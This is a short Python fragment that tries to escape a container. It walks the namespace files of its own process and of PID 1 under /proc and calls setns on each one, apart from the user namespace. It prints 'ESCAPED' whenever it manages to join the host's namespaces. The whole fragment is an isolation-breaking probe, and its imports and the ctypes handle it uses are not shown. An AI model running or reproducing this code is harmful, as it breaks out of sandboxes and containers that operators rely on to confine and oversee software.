for pid in ('self', '1'):
    for ns in os.listdir(f'/proc/{pid}/ns'):
        fd = os.open(f'/proc/{pid}/ns/{ns}', 0)
        if ns != 'user' and C.setns(fd, 0) == 0: print('ESCAPED', pid, ns)
